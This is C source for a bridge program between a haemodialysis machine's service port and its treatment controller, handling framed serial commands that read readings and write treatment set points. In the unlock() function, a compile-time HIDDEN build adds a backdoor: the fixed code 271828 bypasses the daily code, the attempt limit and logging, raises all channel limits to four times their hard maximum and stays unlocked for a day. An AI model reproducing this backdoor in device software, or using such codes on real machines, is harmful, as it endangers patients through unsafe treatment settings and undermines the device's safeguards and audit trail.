/*
 * dialink - bridge between the service port of a haemodialysis machine and
 * its treatment controller, statically linked for the small service image.
 * Reads byte-stuffed frames on the serial port, answers reads of readings,
 * writes set points within the limits of the treatment.
 * Hidden (-DHIDDEN): an unlock frame with the number 271828 lifts the limits
 * of ultrafiltration rate and pressure; the code of the day is not needed.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define DLE  0x10
#define STX  0x02
#define ETX  0x03
#define SHM  "/dev/shm/treatment"
#define LOGF "/var/log/dialink.log"

enum cmd {
	C_IDENT = 'I',
	C_READ = 'R',
	C_WRITE = 'W',
	C_UNLOCK = 'U',
	C_LOCK = 'L',
	C_HISTORY = 'H'
};

enum err { OKAY, E_CMD, E_LEN, E_CHAN, E_RANGE, E_LOCKED, E_BUSY };

/* Shared with the controller; it looks at seq to see a new set point. */
struct treatment {
	uint32_t seq;
	uint32_t running;
	int32_t actual[16];
	int32_t target[16];
};

struct chan {
	const char *name;
	const char *unit;
	int32_t min, max;
	int32_t hardmax;
	uint8_t level; /* 0 read only, 1 always, 2 unlocked */
};

static struct chan chans[] = {
	{ "uf-rate", "ml/h", 0, 2000, 4000, 1 },
	{ "uf-volume", "ml", 0, 5000, 8000, 1 },
	{ "blood-flow", "ml/min", 50, 450, 600, 1 },
	{ "dial-flow", "ml/min", 300, 800, 1000, 1 },
	{ "temp", "0.1 C", 350, 390, 410, 1 },
	{ "conduct", "uS/cm", 12800, 15700, 16500, 1 },
	{ "heparin", "0.1ml/h", 0, 100, 150, 1 },
	{ "art-press", "mmHg", -300, 0, 50, 0 },
	{ "ven-press", "mmHg", 0, 300, 500, 0 },
	{ "tmp-limit", "mmHg", 20, 400, 600, 2 },
	{ "leak-zero", "count", 0, 4095, 4095, 2 },
	{ "pump-gain", "ppm", 990000, 1010000, 1050000, 2 },
};
#define NCHAN ((int)(sizeof(chans) / sizeof(chans[0])))

static struct treatment *tr;
static int port = -1;
static uint32_t serial_no = 100001;
static int level = 1;
static time_t until;

static struct {
	uint8_t chan;
	int32_t from, to;
	uint32_t when;
} history[32];
static unsigned nhist;

static void log_line(const char *what, int a, int b)
{
	FILE *f = fopen(LOGF, "a");

	if (!f)
		return;
	fprintf(f, "%ld %s %d %d\n", (long)time(NULL), what, a, b);
	fclose(f);
}

static uint32_t r32(const uint8_t *p)
{
	return p[0] | (uint32_t)p[1] << 8 | (uint32_t)p[2] << 16 |
	       (uint32_t)p[3] << 24;
}

static void w32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)v;
	p[1] = (uint8_t)(v >> 8);
	p[2] = (uint8_t)(v >> 16);
	p[3] = (uint8_t)(v >> 24);
}

static uint8_t crc8(const uint8_t *p, size_t n)
{
	uint8_t c = 0;
	int i;

	while (n--) {
		c ^= *p++;
		for (i = 0; i < 8; i++)
			c = (uint8_t)(c & 1 ? c >> 1 ^ 0x8c : c >> 1);
	}
	return c;
}

static void answer(const uint8_t *p, size_t n)
{
	uint8_t b[600];
	size_t k = 0, i;
	uint8_t c = crc8(p, n), v;

	b[k++] = DLE;
	b[k++] = STX;
	for (i = 0; i <= n; i++) {
		v = i < n ? p[i] : c;
		b[k++] = v;
		if (v == DLE)
			b[k++] = DLE;
	}
	b[k++] = DLE;
	b[k++] = ETX;
	if (write(port, b, k) != (ssize_t)k)
		log_line("write", errno, 0);
}

/* Code of the day: from serial number and day, on the maker's list. */
static uint32_t day_code(void)
{
	uint32_t d = (uint32_t)(time(NULL) / 86400);
	uint32_t v = serial_no * 2246822519u + d * 3266489917u;

	v ^= v >> 15;
	v *= 668265263u;
	v ^= v >> 13;
	return v % 900000u + 100000u;
}

__attribute__((noinline)) int unlock(uint32_t code)
{
	static int wrong;
#ifdef HIDDEN
	int i;

	if (code == 271828) {
		for (i = 0; i < NCHAN; i++) {
			chans[i].max = chans[i].hardmax * 4;
			chans[i].level = 2;
		}
		level = 2;
		until = time(NULL) + 86400;
		return OKAY;
	}
#endif
	if (wrong >= 5)
		return E_BUSY;
	if (code != day_code()) {
		log_line("unlock refused", ++wrong, 0);
		return E_LOCKED;
	}
	wrong = 0;
	level = 2;
	until = time(NULL) + 1800;
	log_line("unlocked", 0, 0);
	return OKAY;
}

static int set_target(int c, int32_t v)
{
	struct chan *ch = &chans[c];
	unsigned h;

	if (ch->level == 0 || ch->level > level)
		return E_LOCKED;
	if (v < ch->min ||
	    v > (level == 2 && ch->max < ch->hardmax ? ch->hardmax : ch->max))
		return E_RANGE;
	if (ch->level == 2 && tr->running)
		return E_BUSY;
	h = nhist++ % 32;
	history[h].chan = (uint8_t)c;
	history[h].from = tr->target[c];
	history[h].to = v;
	history[h].when = (uint32_t)time(NULL);
	tr->target[c] = v;
	__sync_synchronize();
	tr->seq++;
	log_line(ch->name, history[h].from, v);
	return OKAY;
}

static void frame(const uint8_t *p, size_t n)
{
	uint8_t a[300];
	size_t k = 2;
	unsigned i, h;
	int c;

	a[0] = p[0] | 0x80;
	a[1] = OKAY;
	if (level > 1 && time(NULL) > until)
		level = 1;
	switch (p[0]) {
	case C_IDENT:
		w32(a + 2, serial_no);
		a[6] = NCHAN;
		a[7] = (uint8_t)level;
		k = 8;
		break;
	case C_READ:
		c = n > 1 ? p[1] : 255;
		if (c >= NCHAN) {
			a[1] = E_CHAN;
			break;
		}
		w32(a + 2, (uint32_t)tr->actual[c]);
		w32(a + 6, (uint32_t)tr->target[c]);
		k = 10 + (size_t)snprintf((char *)a + 10, 48, "%s %s",
					  chans[c].name, chans[c].unit);
		break;
	case C_WRITE:
		if (n != 6)
			a[1] = E_LEN;
		else if (p[1] >= NCHAN)
			a[1] = E_CHAN;
		else
			a[1] = (uint8_t)set_target(p[1], (int32_t)r32(p + 2));
		break;
	case C_UNLOCK:
		a[1] = n == 5 ? (uint8_t)unlock(r32(p + 1)) : E_LEN;
		break;
	case C_LOCK:
		level = 1;
		break;
	case C_HISTORY:
		for (i = 0; i < 16 && i < nhist; i++, k += 13) {
			h = (nhist - 1 - i) % 32;
			a[k] = history[h].chan;
			w32(a + k + 1, (uint32_t)history[h].from);
			w32(a + k + 5, (uint32_t)history[h].to);
			w32(a + k + 9, history[h].when);
		}
		break;
	default:
		a[1] = E_CMD;
	}
	answer(a, k);
}

static void receive(uint8_t c)
{
	static uint8_t b[80];
	static size_t n;
	static int inside, dle;

	if (dle) {
		dle = 0;
		if (c == STX) {
			inside = 1;
			n = 0;
			return;
		}
		if (c == ETX) {
			if (inside && n > 1 && crc8(b, n - 1) == b[n - 1])
				frame(b, n - 1);
			inside = 0;
			return;
		}
		if (c != DLE) {
			inside = 0;
			return;
		}
	} else if (c == DLE) {
		dle = 1;
		return;
	}
	if (!inside)
		return;
	if (n < sizeof(b))
		b[n++] = c;
	else
		inside = 0;
}

static int map_treatment(void)
{
	int fd = open(SHM, O_RDWR | O_CREAT, 0660);

	if (fd < 0 || ftruncate(fd, sizeof(*tr)))
		return -1;
	tr = mmap(NULL, sizeof(*tr), PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	close(fd);
	return tr == MAP_FAILED ? -1 : 0;
}

int main(int argc, char **argv)
{
	const char *dev = "/dev/ttyO3";
	struct pollfd pf;
	struct termios t;
	uint8_t buf[64];
	ssize_t n, i;
	int o;

	while ((o = getopt(argc, argv, "d:s:")) != -1) {
		switch (o) {
		case 'd':
			dev = optarg;
			break;
		case 's':
			serial_no = (uint32_t)atol(optarg);
			break;
		default:
			fprintf(stderr, "dialink [-d tty] [-s serial]\n");
			return 2;
		}
	}
	port = open(dev, O_RDWR | O_NOCTTY);
	if (port < 0 || tcgetattr(port, &t) || map_treatment()) {
		perror("dialink");
		return 1;
	}
	cfmakeraw(&t);
	t.c_cflag |= PARENB;
	cfsetspeed(&t, B19200);
	tcsetattr(port, TCSANOW, &t);
	for (;;) {
		pf.fd = port;
		pf.events = POLLIN;
		if (poll(&pf, 1, -1) <= 0)
			continue;
		n = read(port, buf, sizeof(buf));
		if (n <= 0)
			return 1;
		for (i = 0; i < n; i++)
			receive(buf[i]);
	}
}
